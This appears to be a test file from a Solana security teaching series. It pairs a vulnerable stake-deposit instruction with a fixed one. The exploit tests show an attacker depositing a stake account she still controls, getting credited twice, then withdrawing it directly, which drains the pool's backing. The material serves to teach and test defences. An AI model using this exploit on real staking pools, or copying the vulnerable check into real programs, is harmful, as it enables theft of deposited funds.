@@ -0,0 +1,243 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import {
+    Authorized,
+    Keypair,
+    LAMPORTS_PER_SOL,
+    Lockup,
+    PublicKey,
+    StakeAuthorizationLayout,
+    StakeProgram,
+    SystemProgram,
+    SYSVAR_CLOCK_PUBKEY,
+    SYSVAR_STAKE_HISTORY_PUBKEY,
+} from "@solana/web3.js";
+import { expect } from "chai";
+import { expectError } from "../../../tests/utils";
+
+describe("45: Stake Program CPI Misuse", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.StakeCpiMisuse as Program<any>;
+
+    let admin: Keypair;
+    let alice: Keypair;
+    let mallory: Keypair;
+
+    const STAKE = 2 * LAMPORTS_PER_SOL;
+
+    const poolPda = PublicKey.findProgramAddressSync([Buffer.from("pool")], program.programId)[0];
+    const authorityPda = PublicKey.findProgramAddressSync(
+        [Buffer.from("authority"), poolPda.toBuffer()],
+        program.programId
+    )[0];
+
+    function memberPda(owner: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync([Buffer.from("member"), owner.toBuffer()], program.programId)[0];
+    }
+
+    function recordPda(stake: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync([Buffer.from("stake"), stake.toBuffer()], program.programId)[0];
+    }
+
+    /** Creates an initialized (undelegated) stake account controlled by `owner`. */
+    async function createStake(owner: Keypair, lockup: Lockup = Lockup.default): Promise<PublicKey> {
+        const stake = Keypair.generate();
+        const tx = StakeProgram.createAccount({
+            fromPubkey: owner.publicKey,
+            stakePubkey: stake.publicKey,
+            authorized: new Authorized(owner.publicKey, owner.publicKey),
+            lockup,
+            lamports: STAKE,
+        });
+        await provider.sendAndConfirm(tx, [owner, stake]);
+        return stake.publicKey;
+    }
+
+    /** Hands staker and withdrawer authority over to the pool. */
+    async function authorizePool(owner: Keypair, stake: PublicKey) {
+        for (const type of [StakeAuthorizationLayout.Staker, StakeAuthorizationLayout.Withdrawer]) {
+            const tx = StakeProgram.authorize({
+                stakePubkey: stake,
+                authorizedPubkey: owner.publicKey,
+                newAuthorizedPubkey: authorityPda,
+                stakeAuthorizationType: type,
+                custodianPubkey: owner.publicKey,
+            });
+            await provider.sendAndConfirm(tx, [owner]);
+        }
+    }
+
+    function vulnerableDeposit(owner: Keypair, stake: PublicKey) {
+        return program.methods
+            .vulnerableDepositStake()
+            .accounts({ pool: poolPda, member: memberPda(owner.publicKey), stake, owner: owner.publicKey })
+            .signers([owner])
+            .rpc();
+    }
+
+    function secureDeposit(owner: Keypair, stake: PublicKey) {
+        return program.methods
+            .secureDepositStake()
+            .accounts({
+                pool: poolPda,
+                member: memberPda(owner.publicKey),
+                stake,
+                record: recordPda(stake),
+                owner: owner.publicKey,
+                systemProgram: SystemProgram.programId,
+            })
+            .signers([owner])
+            .rpc();
+    }
+
+    async function credited(owner: PublicKey): Promise<number> {
+        return (await program.account.member.fetch(memberPda(owner))).credited.toNumber();
+    }
+
+    before(async () => {
+        admin = Keypair.generate();
+        alice = Keypair.generate();
+        mallory = Keypair.generate();
+
+        for (const kp of [admin, alice, mallory]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 20 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+    });
+
+    describe("Setup", () => {
+        it("Creates the pool and member accounts", async () => {
+            await program.methods
+                .initializePool()
+                .accounts({
+                    pool: poolPda,
+                    authority: authorityPda,
+                    admin: admin.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([admin])
+                .rpc();
+
+            for (const owner of [alice, mallory]) {
+                await program.methods
+                    .openMember()
+                    .accounts({
+                        member: memberPda(owner.publicKey),
+                        owner: owner.publicKey,
+                        systemProgram: SystemProgram.programId,
+                    })
+                    .signers([owner])
+                    .rpc();
+            }
+        });
+    });
+
+    describe("Exploit: deposit stake without giving up control", () => {
+        let stake: PublicKey;
+
+        it("Mallory deposits a stake account that still lists Mallory as withdrawer, twice", async () => {
+            stake = await createStake(mallory);
+
+            await vulnerableDeposit(mallory, stake);
+            await vulnerableDeposit(mallory, stake);
+
+            console.log(`  Credited: ${(await credited(mallory.publicKey)) / LAMPORTS_PER_SOL} SOL for one 2 SOL account`);
+            expect(await credited(mallory.publicKey)).to.equal(2 * STAKE);
+        });
+
+        it("Mallory withdraws the stake directly through the Stake program", async () => {
+            const tx = StakeProgram.withdraw({
+                stakePubkey: stake,
+                authorizedPubkey: mallory.publicKey,
+                toPubkey: mallory.publicKey,
+                lamports: STAKE,
+            });
+            await provider.sendAndConfirm(tx, [mallory]);
+
+            expect(await provider.connection.getAccountInfo(stake)).to.be.null;
+            console.log("  The stake account is gone; the pool's credit is backed by nothing");
+            expect(await credited(mallory.publicKey)).to.equal(2 * STAKE);
+        });
+    });
+
+    describe("Secure: StakeStateV2 validation", () => {
+        it("Rejects stake whose authorities were not handed to the pool", async () => {
+            const stake = await createStake(mallory);
+            await expectError(secureDeposit(mallory, stake), "WrongStaker");
+        });
+
+        it("Rejects stake still under lockup", async () => {
+            const oneYear = Math.floor(Date.now() / 1000) + 365 * 24 * 3600;
+            const stake = await createStake(alice, new Lockup(oneYear, 0, alice.publicKey));
+            await authorizePool(alice, stake);
+
+            await expectError(secureDeposit(alice, stake), "LockupInForce");
+        });
+
+        let stake: PublicKey;
+
+        it("Credits stake controlled by the pool, excluding the rent reserve", async () => {
+            stake = await createStake(alice);
+            await authorizePool(alice, stake);
+
+            const before = await credited(alice.publicKey);
+            await secureDeposit(alice, stake);
+
+            const reserve = await provider.connection.getMinimumBalanceForRentExemption(StakeProgram.space);
+            expect((await credited(alice.publicKey)) - before).to.equal(STAKE - reserve);
+        });
+
+        it("Refuses to credit the same stake account twice", async () => {
+            try {
+                await secureDeposit(alice, stake);
+                expect.fail("Should have thrown");
+            } catch (error: any) {
+                const output = [error.message, ...(error.logs ?? [])].join("\n");
+                expect(output).to.match(/already in use/i);
+            }
+        });
+
+        it("Pays Alice out through a Stake program CPI signed by the pool authority", async () => {
+            const amount = await credited(alice.publicKey);
+            const before = await provider.connection.getBalance(alice.publicKey);
+
+            await program.methods
+                .withdrawStake(new anchor.BN(amount))
+                .accounts({
+                    pool: poolPda,
+                    authority: authorityPda,
+                    member: memberPda(alice.publicKey),
+                    stake,
+                    owner: alice.publicKey,
+                    clock: SYSVAR_CLOCK_PUBKEY,
+                    stakeHistory: SYSVAR_STAKE_HISTORY_PUBKEY,
+                    stakeProgram: StakeProgram.programId,
+                })
+                .signers([alice])
+                .rpc();
+
+            expect(await provider.connection.getBalance(alice.publicKey)).to.be.greaterThan(before);
+            expect(await credited(alice.publicKey)).to.equal(0);
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== Stake Program CPI Misuse ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  #[account(owner = stake::program::ID)] and credit stake.lamports()");
+            console.log("  Risk: depositor keeps the withdrawer key, lockups and duplicates are credited\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  StakeStateV2::deserialize -> staker == withdrawer == pool authority PDA,");
+            console.log("  lockup not in force, one StakeRecord per stake account");
+            console.log("  Protection: the pool only credits stake it alone can withdraw\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  Owning program != controlling key. Read the stake account's authorities before trusting it.");
+        });
+    });
+});